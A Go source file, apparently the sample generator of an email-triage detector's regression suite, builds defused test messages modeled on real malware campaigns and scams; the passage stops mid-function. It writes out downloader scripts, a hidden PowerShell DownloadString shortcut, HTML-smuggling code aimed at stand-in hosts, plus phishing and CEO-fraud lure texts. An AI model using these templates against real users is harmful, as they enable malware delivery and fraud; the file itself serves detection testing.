package main

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"net/url"
	"strings"
	"time"

	"triage/parsers/exe"
	"triage/samples/gen/lnkw"
	"triage/samples/gen/sevenzw"
)

// Sample is one generated test message.
type Sample struct {
	// Class is the expected verdict: malicious, suspicious or clean.
	Class string
	// Slug names the sample directory: samples/<class>/<slug>/.
	Slug string
	// Campaign is the catalogue key ("iqy", "lnk", …) or "engine".
	Campaign string
	// Section is the catalogue § number, 0 for engine tests.
	Section     int
	Description string
	// Positive is true for a positive of its campaign, false for a
	// near-miss negative.
	Positive bool
	Build    func() ([]byte, error)
}

// Marker is in every sample; the payloads print it and nothing else.
const Marker = "TRIAGE-REGRESSION"

// The IQY of §5: line 1 WEB, line 2 the version, line 3 the URL.
const iqyBody = "WEB\r\n1\r\nhttp://127.0.0.1:9/regress/q.html\r\n"

// lnkPSCommand is the PowerShell the LNK samples pass with -EncodedCommand.
const lnkPSCommand = "Write-Output '" + Marker + "'; (New-Object Net.WebClient).DownloadString('http://example.invalid/regress/stage2.ps1')"

// coreSamples lists the non-Office samples.
func coreSamples() []Sample {
	return []Sample{
		{"malicious", "iqy-jp-photo", "iqy", 5,
			"§5 CUTWAIL-style IQY lure: ISO-2022-JP subject 写真添付 from an unrelated domain, 写真.iqy (RFC 2231 ISO-2022-JP file name) querying http://127.0.0.1:9/regress/q.html.",
			true, iqyPhotoMessage},
		{"malicious", "iqy-renamed-txt", "iqy", 5,
			"§5 renamed IQY: the same WEB/1/URL query attached as invoice.txt (text/plain); detection must come from content, not the extension.",
			true, iqyRenamedTxt},
		{"malicious", "zip-password-jscript", "engine", 0,
			"ZipCrypto zip (password 7731 given in the Japanese body as パスワード：7731) holding 請求書.js (Shift_JIS member name), a JScript downloader look-alike (MSXML2.XMLHTTP to example.invalid, ADODB.Stream SaveToFile, WScript.Shell Run).",
			true, zipPasswordJScript},
		{"malicious", "lnk-pdf-zip", "lnk", 15,
			"§15 zip holding 請求書.pdf.lnk: powershell.exe target, -NoProfile -WindowStyle Hidden -EncodedCommand (decodes to a DownloadString of http://example.invalid/regress/stage2.ps1), imageres.dll,-102 icon, ShowCommand 7.",
			true, lnkPDFZip},
		{"malicious", "forwarded-iqy", "engine", 0,
			"A staff report (Fwd: suspicious mail from soc-reporter@corp.example) carrying the §5 IQY lure as a message/rfc822 attachment: the verdict must come from the inner message.",
			true, forwardedIQY},
		{"malicious", "adwind-jar", "adwind", 8,
			"§8 HSBC payment-advice lure from a non-bank domain: Payment_Advice.zip → Payment_Advice.pdf.jar with 150 empty I/l-named classes, Main-Class lIlIl.Main and a 4 KB random lIl.dat.",
			true, adwindJar},
		{"malicious", "html-smuggling", "engine", 0,
			"HTML smuggling: an .html attachment whose script atob()s a base64 zip (invoice.zip holding invoice.pdf.js) into a Blob saved with msSaveOrOpenBlob / a.download.",
			true, htmlSmuggling},
		{"malicious", "locky-7z-vbs", "locky", 7,
			"§7 Locky-style invoice: subject Emailed Invoice - 583920, a link to http://c.example.invalid/invoice.html and A1234567-01.7z holding 8812345.vbs (five rotating URLs, MSXML2.XMLHTTP/ADODB.Stream in an uncalled function).",
			true, lockyVBS},
		{"malicious", "avaddon-jpg-js", "avaddon", 13,
			"§13 Avaddon/Phorpiex photo lure: subject Do you like my photo?, body ;) and IMG123101.zip holding IMG123101.jpg.js.",
			true, avaddonJS},
		{"malicious", "avaddon-junk-header-js", "avaddon", 13,
			"§13 Avaddon photo lure with an evasion: a stray line (IMG123101) opens the zip attachment's part header, which made strict MIME parsers skip the attachment (mime.header_junk).",
			true, avaddonJunkHeader},
		{"malicious", "netwalker-vbs", "netwalker", 14,
			"§14 COVID lure with CORONAVIRUS_COVID-19.vbs: a base64 blob of a hello-world PE, echoing only its length; ADODB.Stream / FileSystemObject writes to %TEMP%\\qeSw.exe in a never-called sub.",
			true, netwalkerVBS},
		{"malicious", "fifa-exe-zip", "fifa", 10,
			"§10 Check Point's World Cup subject with World_Cup_2018_Schedule.zip holding Schedule_and_Scoresheet.exe (hello-world PE).",
			true, fifaExe},
		{"malicious", "agenttesla-zip-exe", "agenttesla", 12,
			"§12 purchase-order lure RE: Purchase Order #4471 / 注文書 with PO_20200715.zip holding PO_20200715.exe, a .NET-flagged PE whose strings name Becky, FileZilla and smtp.",
			true, agentTeslaExe},
		{"malicious", "iso-lnk", "engine", 0,
			"ISO smuggling: an .iso attachment whose file system holds the §15 PowerShell shortcut.",
			true, isoLnk},
		{"suspicious", "policy-elf", "policy", 16,
			"§16 policy: a Linux ELF executable (hello world) sent as a backup tool.",
			true, policyELF},
		{"suspicious", "policy-macho", "policy", 16,
			"§16 policy: a Mach-O executable header stub sent as the macOS backup tool.",
			true, policyMachO},
		{"suspicious", "karaage-prize", "karaage", 9,
			"§9 carrier prize scam: au display name on carrier-prize.example, SPF fail, Shift_JIS subject and body 【当選】からあげプレゼントクーポン with a link to http://example.invalid/coupon?id=TRIAGE.",
			true, karaagePrize},
		{"suspicious", "bec-ceo-transfer", "bec", 11,
			"§11 CEO fraud: 代表取締役 佐藤 on a freemail address to keiri@corp.example, Reply-To on a look-alike domain, subject 至急:本日中の振込依頼, DMARC fail, no attachment or link.",
			true, becTransfer},
		{"suspicious", "pylocky-link-fr", "pylocky", 6,
			"§6 French unpaid-invoice lure (Facture impayée 2018-08) linking http://example.invalid/facture_2018.zip on a host unrelated to the sender.",
			true, pylockyLink},
		{"suspicious", "emotet-link-invoice", "emotet", 2,
			"§2 invoice mail (Invoice 4821 payment due) whose body links http://example.invalid/INVOICE-4821.doc.",
			true, emotetLink},
		{"suspicious", "link-mismatch-bank", "bec", 11,
			"§11 account-lock phish: the HTML shows https://www.bank.example/secure/login but the link goes to http://example.invalid/secure/login (html.link_mismatch).",
			true, linkMismatchBank},
		{"clean", "newsletter-click-tracked", "bec", 11,
			"Near miss for link-text mismatch: a retailer's newsletter whose links go through the mailing service's click tracker, which carries the shown URL as a parameter (html.link_redirect, low).",
			false, newsletterClickTracked},
		{"clean", "newsletter-ja", "iqy", 5,
			"Near miss for Japanese lures: an ISO-2022-JP newsletter with a UTF-8 HTML alternative and ordinary links to *.example hosts; no attachment.",
			false, newsletterJA},
		{"clean", "text-mentions-web", "iqy", 5,
			"Near miss for renamed IQY: a .txt whose text mentions WEB, 1 and a URL, but whose line 1 is not WEB.",
			false, textMentionsWeb},
		{"clean", "zip-of-pdfs", "locky", 7,
			"Near miss for script-in-archive: a zip of three small PDF documents.",
			false, zipOfPDFs},
		{"suspicious", "business-jar", "adwind", 8,
			"Near miss for Adwind: an ordinary JAR (com/example/app/…, Main-Class com.example.app.Main) sent by a colleague. No Adwind trait may fire; any JAR attachment is still suspicious by policy (§8).",
			false, businessJar},
		{"clean", "plain-reply", "emotet", 1,
			"Near miss for thread hijack: an ordinary RE: reply with In-Reply-To/References and quoted text, no attachment.",
			false, plainReply},
		{"suspicious", "broken-mime", "engine", 0,
			"Malformed MIME: an unterminated multipart, broken base64, a 200-level nested multipart and a 100 KB header line; must still yield a verdict. Content beyond a limit was not inspected, so the verdict fails closed: suspicious.",
			false, brokenMIME},
		{"suspicious", "zip-bomb", "engine", 0,
			"Decompression bomb: backup.zip whose single member data.bin is 256 MiB of zeros; the expectation is a limit finding (fail closed: suspicious), fast and bounded, not a crash.",
			false, zipBomb},
	}
}

// --- helpers -------------------------------------------------------------

// jst and others are fixed zones so that dates never depend on the host.
var (
	jst = time.FixedZone("JST", 9*3600)
	cet = time.FixedZone("CEST", 2*3600)
	est = time.FixedZone("EDT", -4*3600)
	bst = time.FixedZone("BST", 1*3600)
)

// hdr holds the top-level header fields of a message.
type hdr struct {
	trace   []field // Authentication-Results etc., written first
	date    time.Time
	from    [2]string // display name, address
	to      [2]string
	replyTo [2]string
	subject string
	charset string // for non-ASCII subject and display names
	msgID   string
	extra   []field // written after MIME-Version
}

// message puts h on top of body and renders it.
func message(h hdr, body *entity) ([]byte, error) {
	if h.charset == "" {
		h.charset = csUTF8
	}
	e := *body
	e.header = nil
	e.header = append(e.header, h.trace...)
	e.add("Date", h.date.Format("Mon, 02 Jan 2006 15:04:05 -0700"))
	from, err := address(h.from[0], h.charset, h.from[1])
	if err != nil {
		return nil, err
	}
	e.add("From", from)
	to, err := address(h.to[0], h.charset, h.to[1])
	if err != nil {
		return nil, err
	}
	e.add("To", to)
	if h.replyTo[1] != "" {
		rt, err := address(h.replyTo[0], h.charset, h.replyTo[1])
		if err != nil {
			return nil, err
		}
		e.add("Reply-To", rt)
	}
	subj, err := encodeWords(h.charset, h.subject)
	if err != nil {
		return nil, err
	}
	e.add("Subject", subj)
	e.add("Message-ID", "<"+h.msgID+">")
	e.add("MIME-Version", "1.0")
	e.header = append(e.header, h.extra...)
	e.add("X-Triage-Sample", Marker)
	e.header = append(e.header, body.header...)
	return e.bytes()
}

// authResults is an Authentication-Results field.
func authResults(v string) field {
	return field{name: "Authentication-Results", value: "mx.corp.example; " + v}
}

// mixed is multipart/mixed with a text first part and attachments.
func mixed(boundary string, text *entity, atts ...*entity) *entity {
	return multipart("mixed", boundary, append([]*entity{text}, atts...)...)
}

// text is a text/plain part.
func text(charset, cte, s string) (*entity, error) { return textPart("plain", charset, cte, s) }

// email is the shape most samples share: the header over a text/plain
// body, then the attachments in multipart/mixed under boundary (the body
// alone when there are none).
type email struct {
	header   hdr
	charset  string // of the body
	cte      string
	body     string
	boundary string
	files    []file    // base64 attachments
	parts    []*entity // other attachments, after files
}

// file is a base64 attachment, written by attachment.
type file struct {
	name, ctype, nameCharset string
	data                     []byte
}

// bytes renders the message.
func (m email) bytes() ([]byte, error) {
	body, err := text(m.charset, m.cte, m.body)
	if err != nil {
		return nil, err
	}
	if len(m.files) == 0 && len(m.parts) == 0 {
		return message(m.header, body)
	}
	var atts []*entity
	for _, f := range m.files {
		a, err := attachment(f.name, f.ctype, f.nameCharset, f.data)
		if err != nil {
			return nil, err
		}
		atts = append(atts, a)
	}
	return message(m.header, mixed(m.boundary, body, append(atts, m.parts...)...))
}

// passTrace is the Authentication-Results of a sender whose domain passes.
func passTrace(domain string) []field {
	return []field{authResults("spf=pass smtp.mailfrom=" + domain + "; dkim=pass header.d=" + domain + "; dmarc=pass header.from=" + domain)}
}

// corpTrace is the Authentication-Results of internal mail.
func corpTrace() []field { return passTrace("corp.example") }

// lnkLure is the §15 shortcut: powershell.exe with an encoded command.
func lnkLure() ([]byte, error) {
	when := time.Date(2019, 12, 7, 9, 8, 59, 0, time.UTC)
	l := lnkw.Link{
		LocalBasePath:  `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		EnvTarget:      `%SystemRoot%\System32\WindowsPowerShell\v1.0\powershell.exe`,
		RelativePath:   `..\..\..\..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		WorkingDir:     `%SystemRoot%\System32\WindowsPowerShell\v1.0`,
		Arguments:      "-NoProfile -WindowStyle Hidden -EncodedCommand " + psEncodedCommand(lnkPSCommand),
		IconLocation:   `%SystemRoot%\System32\imageres.dll`,
		IconIndex:      -102,
		ShowCommand:    lnkw.ShowMinNoActivate,
		FileAttributes: lnkw.FileAttributeArchive,
		FileSize:       452608,
		Created:        when,
		Accessed:       when,
		Written:        when,
		DriveSerial:    0x5a3c1e27,
	}
	return l.Bytes()
}

// --- malicious -----------------------------------------------------------

func iqyPhotoMessage() ([]byte, error) {
	return email{
		header: hdr{
			date:    time.Date(2018, 8, 6, 9, 14, 3, 0, jst),
			from:    [2]string{"吉田 さくら", "yoshida.sakura@kt-mailer.example"},
			to:      [2]string{"", "tanaka@corp.example"},
			subject: "写真添付",
			charset: csISO2022,
			msgID:   "20180806091403.7E21A0B3C4@kt-mailer.example",
			extra:   []field{{name: "X-Mailer", value: "Microsoft Outlook 16.0"}},
		},
		charset: csISO2022, cte: cte7bit,
		body:     "XLS版をお送りします。ご確認ください。\n",
		boundary: "------------_5B6795A3_0001",
		files:    []file{{"写真.iqy", "application/octet-stream", csISO2022, []byte(iqyBody)}},
	}.bytes()
}

func iqyRenamedTxt() ([]byte, error) {
	return email{
		header: hdr{
			date:    time.Date(2018, 8, 7, 10, 2, 41, 0, jst),
			from:    [2]string{"経理担当", "keiri-tantou@invoice-center.example"},
			to:      [2]string{"", "sato@corp.example"},
			subject: "ご確認ください",
			msgID:   "5b68ef31.1c69fb81.2e4.77ab@invoice-center.example",
		},
		charset: csUTF8, cte: cteBase64,
		body:     "お世話になります。\n請求書をお送りします。ご確認ください。\n",
		boundary: "=_iqy_renamed_0002",
		parts: []*entity{{
			ctype:       "text/plain; charset=us-ascii; name=invoice.txt",
			cte:         cte7bit,
			disposition: "attachment; filename=invoice.txt",
			body:        []byte(iqyBody),
		}},
	}.bytes()
}

const jscriptDownloader = `// ` + Marker + ` inert sample: the download targets an .invalid host and
// the command only echoes the marker.
var url = "http://example.invalid/regress/p.exe";
var http = new ActiveXObject("MSXML2.XMLHTTP");
http.open("GET", url, false);
http.send();
var shell = new ActiveXObject("WScript.Shell");
var path = shell.ExpandEnvironmentStrings("%TEMP%") + "\\p.exe";
var stream = new ActiveXObject("ADODB.Stream");
stream.Type = 1;
stream.Open();
stream.Write(http.responseBody);
stream.SaveToFile(path, 2);
stream.Close();
shell.Run("cmd /c echo ` + Marker + `", 0, false);
`

func zipPasswordJScript() ([]byte, error) {
	when := time.Date(2020, 7, 15, 8, 40, 12, 0, jst)
	// The member name is Shift_JIS without the UTF-8 flag, as Japanese
	// Windows zip tools write it.
	name, err := encodeText(csShiftJIS, "請求書.js")
	if err != nil {
		return nil, err
	}
	z, err := encryptedZip("7731", []zipEntry{{name: string(name), data: toCRLF([]byte(jscriptDownloader)), modified: when}})
	if err != nil {
		return nil, err
	}
	return email{
		header: hdr{
			date:    time.Date(2020, 7, 15, 9, 1, 55, 0, jst),
			from:    [2]string{"請求書送付センター", "billing@seikyu-notice.example"},
			to:      [2]string{"", "kobayashi@corp.example"},
			subject: "請求書送付のご案内",
			msgID:   "20200715090155.4471.billing@seikyu-notice.example",
		},
		charset: csUTF8, cte: cteBase64,
		body: "いつもお世話になっております。\n\n" +
			"7月分の請求書を送付いたします。\n" +
			"添付ファイルはパスワード付きZIPです。\n\n" +
			"パスワード：7731\n\n" +
			"よろしくお願いいたします。\n",
		boundary: "=_zipcrypto_0003",
		files:    []file{{"請求書.zip", "application/zip", csUTF8, z}},
	}.bytes()
}

func lnkPDFZip() ([]byte, error) {
	lnk, err := lnkLure()
	if err != nil {
		return nil, err
	}
	z, err := zipArchive([]zipEntry{{name: "請求書.pdf.lnk", data: lnk, modified: time.Date(2020, 1, 20, 10, 12, 0, 0, jst)}})
	if err != nil {
		return nil, err
	}
	return email{
		header: hdr{
			date:    time.Date(2020, 1, 20, 10, 15, 2, 0, jst),
			from:    [2]string{"山本 経理部", "yamamoto@payment-dept.example"},
			to:      [2]string{"", "ito@corp.example"},
			subject: "支払い請求書",
			charset: csISO2022,
			msgID:   "000a01d5cf3b$8c2f1e40$a48d5ac0$@payment-dept.example",
		},
		charset: csISO2022, cte: cte7bit,
		body: "お世話になっております。\n\n" +
			"支払い請求書を添付にてお送りいたします。\n" +
			"内容をご確認のうえ、期日までにお支払いください。\n",
		boundary: "----=_NextPart_000_000B_01D5CF86.FC16C640",
		files:    []file{{"請求書.zip", "application/x-zip-compressed", csISO2022, z}},
	}.bytes()
}

func forwardedIQY() ([]byte, error) {
	inner, err := iqyPhotoMessage()
	if err != nil {
		return nil, err
	}
	return email{
		header: hdr{
			date:    time.Date(2018, 8, 6, 9, 40, 27, 0, jst),
			from:    [2]string{"SOC Reporter (Tanaka)", "soc-reporter@corp.example"},
			to:      [2]string{"", "phish-report@corp.example"},
			subject: "Fwd: suspicious mail",
			msgID:   "b1e0c6f2-3d0e-4b1a-9f5e-1d2c3b4a5e6f@corp.example",
			trace:   corpTrace(),
		},
		charset: csUTF8, cte: cteQP,
		body: "Hi SOC,\n\n" +
			"I received the attached mail this morning and did not open the attachment.\n" +
			"The sender is unknown to me. Could you check it?\n\n" +
			"Thanks,\nTanaka\n",
		boundary: "=_forward_0005",
		parts:    []*entity{rfc822Part(inner, "suspicious mail.eml")},
	}.bytes()
}

func adwindJar() ([]byte, error) {
	when := time.Date(2017, 7, 12, 14, 31, 8, 0, bst)
	r := rng{s: 0xad81d}
	il := func(n int) string {
		var b strings.Builder
		for range n {
			b.WriteByte("Il"[r.intn(2)])
		}
		return b.String()
	}
	seen := map[string]bool{"lIlIl/Main": true}
	var classes []jarClass
	for len(classes) < 150 {
		segs := make([]string, 2+r.intn(3))
		for i := range segs {
			segs[i] = il(2 + r.intn(4))
		}
		name := strings.Join(segs, "/")
		if seen[name] {
			continue
		}
		seen[name] = true
		classes = append(classes, jarClass{name: name})
	}
	classes = append(classes, jarClass{name: "lIlIl/Main", main: Marker})
	jar, err := jarArchive(manifest("lIlIl.Main"), classes,
		[]zipEntry{{name: "lIl.dat", data: r.bytes(4096), modified: when}}, when)
	if err != nil {
		return nil, err
	}
	z, err := zipArchive([]zipEntry{{name: "Payment_Advice.pdf.jar", data: jar, modified: when}})
	if err != nil {
		return nil, err
	}
	return email{
		header: hdr{
			date:    time.Date(2017, 7, 12, 14, 36, 40, 0, bst),
			from:    [2]string{"HSBC Advising Service", "advice@not-hsbc.example"},
			to:      [2]string{"", "accounts@corp.example"},
			subject: "Payment Advice - Advice Ref:[GB170712-4471] / Priority Payment",
			msgID:   "1499866600.88231.advice@not-hsbc.example",
			trace:   []field{authResults("spf=neutral smtp.mailfrom=not-hsbc.example; dkim=none; dmarc=none header.from=not-hsbc.example")},
		},
		charset: csASCII, cte: cte7bit,
		body: "Sir/Madam,\n\n" +
			"The attached payment advice is issued at the request of our customer.\n" +
			"The advice refers to a payment made to your account.\n\n" +
			"Please open the attached file for the remittance details.\n\n" +
			"Yours faithfully,\n" +
			"Global Payments and Cash Management\n" +
			"HSBC\n\n" +
			"*** This is an auto-generated email, please DO NOT REPLY ***\n",
		boundary: "=_adwind_0006",
		files:    []file{{"Payment_Advice.zip", "application/zip", csUTF8, z}},
	}.bytes()
}

func htmlSmuggling() ([]byte, error) {
	when := time.Date(2020, 6, 2, 16, 20, 0, 0, est)
	inner, err := zipArchive([]zipEntry{{name: "invoice.pdf.js", data: []byte(`WScript.Echo("` + Marker + `");` + "\r\n"), modified: when}})
	if err != nil {
		return nil, err
	}
	page := `<!DOCTYPE html>
<html>
<head><meta charset="utf-8"><title>Secure Document Viewer</title></head>
<body>
<p>Your document is being prepared. If the download does not start, reload this page.</p>
<script>
// ` + Marker + ` inert sample: the saved zip only holds WScript.Echo("` + Marker + `").
var data = "` + base64.StdEncoding.EncodeToString(inner) + `";
var raw = atob(data);
var bytes = new Uint8Array(raw.length);
for (var i = 0; i < raw.length; i++) {
  bytes[i] = raw.charCodeAt(i);
}
var blob = new Blob([bytes], {type: "application/zip"});
if (window.navigator.msSaveOrOpenBlob) {
  window.navigator.msSaveOrOpenBlob(blob, "invoice.zip");
} else {
  var a = document.createElement("a");
  a.href = window.URL.createObjectURL(blob);
  a.download = "invoice.zip";
  document.body.appendChild(a);
  a.click();
}
</script>
</body>
</html>
`
	return email{
		header: hdr{
			date:    when,
			from:    [2]string{"Billing Team", "billing@invoice-portal.example"},
			to:      [2]string{"", "ap@corp.example"},
			subject: "Your invoice is ready",
			msgID:   "0102017272a9c3b1-4471-smuggle@invoice-portal.example",
		},
		charset: csASCII, cte: cte7bit,
		body: "Hello,\n\n" +
			"Your invoice is ready. Open the attached secure document to download it.\n\n" +
			"Billing Team\n",
		boundary: "=_smuggle_0007",
		files:    []file{{"Invoice_Secure.html", "text/html; charset=utf-8", csUTF8, toCRLF([]byte(page))}},
	}.bytes()
}

func lockyVBS() ([]byte, error) {
	vbs := `' ` + Marker + ` inert sample: only the first statement runs.
WScript.Echo "` + Marker + `"

Function Fetch()
  Dim urls, http, stream, i
  urls = Array("http://a.example.invalid/87abcXYZ", "http://b.example.invalid/87abcXYZ", _
    "http://c.example.invalid/87abcXYZ", "http://d.example.invalid/87abcXYZ", _
    "http://e.example.invalid/87abcXYZ")
  Set http = CreateObject("MSXML2.XMLHTTP")
  Set stream = CreateObject("ADODB.Stream")
  For i = 0 To UBound(urls)
    http.Open "GET", urls(i), False
  Next
End Function
`
	when := time.Date(2017, 9, 18, 9, 12, 40, 0, cet)
	var sz bytes.Buffer
	if err := sevenzw.Write(&sz, []sevenzw.File{{Name: "8812345.vbs", Data: toCRLF([]byte(vbs)), Modified: when}}); err != nil {
		return nil, err
	}
	return email{
		header: hdr{
			date:    time.Date(2017, 9, 18, 9, 14, 2, 0, cet),
			from:    [2]string{"Accounts", "accounts@invoices-mail.example"},
			to:      [2]string{"", "info@corp.example"},
			subject: "Emailed Invoice - 583920",
			msgID:   "20170918091402.583920@invoices-mail.example",
		},
		charset: csASCII, cte: cte7bit,
		body: "Dear Customer,\n\n" +
			"Please find attached your invoice 583920.\n" +
			"You can also view it online: http://c.example.invalid/invoice.html\n\n" +
			"Sent from my iPhone\n",
		boundary: "=_locky_0008",
		files:    []file{{"A1234567-01.7z", "application/x-7z-compressed", csUTF8, sz.Bytes()}},
	}.bytes()
}

func avaddonJS() ([]byte, error) {
	when := time.Date(2020, 6, 4, 3, 11, 9, 0, time.UTC)
	z, err := zipArchive([]zipEntry{{name: "IMG123101.jpg.js", data: []byte(`WScript.Echo("` + Marker + `")` + "\r\n"), modified: when}})
	if err != nil {
		return nil, err
	}
	return email{
		header: hdr{
			date:    time.Date(2020, 6, 4, 3, 12, 44, 0, time.UTC),
			from:    [2]string{"Jenny", "jenny.k1993@freemail.example"},
			to:      [2]string{"", "sales@corp.example"},
			subject: "Do you like my photo?",
			msgID:   "20200604031244.22914.jenny@freemail.example",
		},
		charset: csASCII, cte: cte7bit,
		body:     ";)\n",
		boundary: "=_avaddon_0009",
		files:    []file{{"IMG123101.zip", "application/zip", csUTF8, z}},
	}.bytes()
}

func avaddonJunkHeader() ([]byte, error) {
	msg, err := avaddonJS()
	if err != nil {
		return nil, err
	}
	part := []byte("\r\nContent-Type: application/zip")
	if bytes.Count(msg, part) != 1 {
		return nil, fmt.Errorf("avaddon-junk-header-js: attachment header not found once")
	}
	msg = bytes.Replace(msg, part, append([]byte("\r\nIMG123101"), part...), 1)
	return bytes.Replace(msg, []byte("20200604031244.22914.jenny@freemail.example"), []byte("20200604041502.22977.jenny@freemail.example"), 1), nil
}

func netwalkerVBS() ([]byte, error) {
	blob := base64.StdEncoding.EncodeToString(exe.MinimalPE(Marker, false))
	vbs := `' ` + Marker + ` inert sample: the blob is a hello-world PE that is never written;
' only its length is echoed.
Dim blob
blob = "` + blob + `"
WScript.Echo "` + Marker + ` blob length: " & Len(blob)

Sub NeverCalled()
  Dim sh, path, xml, node, stream, fso
  Set sh = CreateObject("WScript.Shell")
  path = sh.ExpandEnvironmentStrings("%TEMP%") & "\qeSw.exe"
  Set fso = CreateObject("Scripting.FileSystemObject")
  fso.CreateTextFile(path, True).Close
  Set xml = CreateObject("MSXml2.DOMDocument")
  Set node = xml.createElement("b64")
  node.DataType = "bin.base64"
  node.Text = blob
  Set stream = CreateObject("ADODB.Stream")
  stream.Type = 1
  stream.Open
  stream.Write node.NodeTypedValue
  stream.SaveToFile path, 2
  stream.Close
End Sub
`
	return email{
		header: hdr{
			date:    time.Date(2020, 3, 20, 11, 5, 33, 0, time.UTC),
			from:    [2]string{"Health and Safety Team", "safety@who-covid19-info.example"},
			to:      [2]string{"", "staff@corp.example"},
			subject: "Coronavirus COVID-19 safety guidelines",
			msgID:   "20200320110533.5121.safety@who-covid19-info.example",
		},
		charset: csASCII, cte: cte7bit,
		body: "Dear all,\n\n" +
			"Please read the attached coronavirus (COVID-19) safety guidelines\n" +
			"and follow them in the office from today.\n\n" +
			"Health and Safety Team\n",
		boundary: "=_netwalker_0010",
		files:    []file{{"CORONAVIRUS_COVID-19.vbs", "application/octet-stream", csUTF8, toCRLF([]byte(vbs))}},
	}.bytes()
}

func fifaExe() ([]byte, error) {
	when := time.Date(2018, 5, 30, 14, 40, 0, 0, time.UTC)
	z, err := zipArchive([]zipEntry{{name: "Schedule_and_Scoresheet.exe", data: exe.MinimalPE(Marker, false), modified: when}})
	if err != nil {
		return nil, err
	}
	return email{
		header: hdr{
			date:    time.Date(2018, 5, 30, 15, 2, 11, 0, time.UTC),
			from:    [2]string{"World Cup 2018", "schedule@wc2018-updates.example"},
			to:      [2]string{"", "fans@corp.example"},
			subject: "World_Cup_2018_Schedule_and_Scoresheet_V1.86_CB-DL-Manager",
			msgID:   "20180530150211.186@wc2018-updates.example",
		},
		charset: csASCII, cte: cte7bit,
		body: "Hello,\n\n" +
			"Follow every match of the 2018 FIFA World Cup in Russia!\n" +
			"The attached schedule and scoresheet checker shows all fixtures and results.\n\n" +
			"Enjoy the games.\n",
		boundary: "=_fifa_0011",
		files:    []file{{"World_Cup_2018_Schedule.zip", "application/zip", csUTF8, z}},
	}.bytes()
}

func agentTeslaExe() ([]byte, error) {
	when := time.Date(2020, 7, 15, 11, 20, 5, 0, jst)
	payload := Marker + "\r\nBecky! Internet Mail\x00FileZilla\\recentservers.xml\x00smtp.example.invalid\x00"
	z, err := zipArchive([]zipEntry{{name: "PO_20200715.exe", data: exe.MinimalPE(payload, true), modified: when}})
	if err != nil {
		return nil, err
	}
	return email{
		header: hdr{
			date:    time.Date(2020, 7, 15, 11, 24, 50, 0, jst),
			from:    [2]string{"Purchasing Department", "purchasing@global-trade-supply.example"},
			to:      [2]string{"", "marketing@corp.example"},
			subject: "RE: Purchase Order #4471 / 注文書",
			msgID:   "20200715112450.4471.purchasing@global-trade-supply.example",
		},
		charset: csUTF8, cte: cteQP,
		body: "Dear Sir/Madam,\n\n" +
			"Please find attached our purchase order PO_20200715 and confirm the delivery date.\n\n" +
			"注文書を添付いたしましたので、ご確認の程よろしくお願いいたします。\n\n" +
			"Best regards,\nPurchasing Department\n",
		boundary: "=_agenttesla_0012",
		files:    []file{{"PO_20200715.zip", "application/zip", csUTF8, z}},
	}.bytes()
}

func isoLnk() ([]byte, error) {
	lnk, err := lnkLure()
	if err != nil {
		return nil, err
	}
	img, err := isoImage("INVOICE", []isoFile{{name: "invoice.pdf.lnk", data: lnk}}, time.Date(2020, 7, 15, 10, 0, 0, 0, jst))
	if err != nil {
		return nil, err
	}
	return email{
		header: hdr{
			date:    time.Date(2020, 7, 15, 10, 30, 0, 0, jst),
			from:    [2]string{"Accounts Receivable", "ar@invoice-portal.example"},
			to:      [2]string{"", "ap@corp.example"},
			subject: "Invoice 2020-07",
			msgID:   "20200715103000.iso.ar@invoice-portal.example",
		},
		charset: csASCII, cte: cte7bit,
		body: "Hello,\n\n" +
			"Your July invoice is attached as a disk image. Open it and double-click the document.\n\n" +
			"Accounts Receivable\n",
		boundary: "=_iso_0013",
		files:    []file{{"Invoice_2020-07.iso", "application/octet-stream", csUTF8, img}},
	}.bytes()
}

// --- suspicious ----------------------------------------------------------

func policyELF() ([]byte, error) {
	return email{
		header: hdr{
			date:    time.Date(2020, 8, 3, 15, 2, 0, 0, jst),
			from:    [2]string{"Kenji Mori", "k.mori@partner-it.example"},
			to:      [2]string{"", "infra@corp.example"},
			subject: "backup tool for the file server",
			msgID:   "20200803150200.elf.k.mori@partner-it.example",
			trace:   passTrace("partner-it.example"),
		},
		charset: csASCII, cte: cte7bit,
		body: "Hi,\n\n" +
			"Attached is the backup tool build for the Linux file server.\n" +
			"Copy it to /usr/local/bin, chmod +x backup_tool and run it once.\n\n" +
			"Regards,\nKenji (partner IT)\n",
		boundary: "=_elf_0014",
		files:    []file{{"backup_tool", "application/octet-stream", csUTF8, exe.MinimalELF(Marker + "\n")}},
	}.bytes()
}

func policyMachO() ([]byte, error) {
	return email{
		header: hdr{
			date:    time.Date(2020, 8, 3, 15, 9, 30, 0, jst),
			from:    [2]string{"Kenji Mori", "k.mori@partner-it.example"},
			to:      [2]string{"", "infra@corp.example"},
			subject: "macOS build of the backup tool",
			msgID:   "20200803150930.macho.k.mori@partner-it.example",
			trace:   passTrace("partner-it.example"),
		},
		charset: csASCII, cte: cte7bit,
		body: "Hi,\n\n" +
			"Here is the macOS build of the backup tool for the design team's Macs.\n\n" +
			"Regards,\nKenji (partner IT)\n",
		boundary: "=_macho_0015",
		files:    []file{{"backup_tool_mac", "application/octet-stream", csUTF8, exe.MinimalMachO(Marker + "\n")}},
	}.bytes()
}

func karaagePrize() ([]byte, error) {
	return email{
		header: hdr{
			date:    time.Date(2019, 6, 10, 19, 42, 5, 0, jst),
			from:    [2]string{"au お客さまセンター", "info@carrier-prize.example"},
			to:      [2]string{"", "user01@corp.example"},
			subject: "【当選】からあげプレゼントクーポンのお知らせ",
			charset: csShiftJIS,
			msgID:   "20190610194205.karaage.info@carrier-prize.example",
			trace:   []field{authResults("spf=fail (sender IP is not permitted) smtp.mailfrom=carrier-prize.example; dkim=none; dmarc=none header.from=carrier-prize.example")},
		},
		charset: csShiftJIS, cte: cteBase64,
		body: "auをご利用いただき誠にありがとうございます。\n\n" +
			"おめでとうございます！\n" +
			"お客さまは「からあげプレゼントクーポン」に当選されました。\n\n" +
			"下記URLより本日中に受け取り手続きを完了してください。\n" +
			"http://example.invalid/coupon?id=TRIAGE\n\n" +
			"※期限を過ぎますと当選は無効となります。\n\n" +
			"auお客さまセンター\n",
	}.bytes()
}

func becTransfer() ([]byte, error) {
	return email{
		header: hdr{
			date:    time.Date(2018, 9, 4, 10, 3, 18, 0, jst),
			from:    [2]string{"代表取締役 佐藤", "ceo.sato@freemail.example"},
			to:      [2]string{"", "keiri@corp.example"},
			replyTo: [2]string{"", "sato.ceo@corp-example.example"},
			subject: "至急:本日中の振込依頼",
			charset: csISO2022,
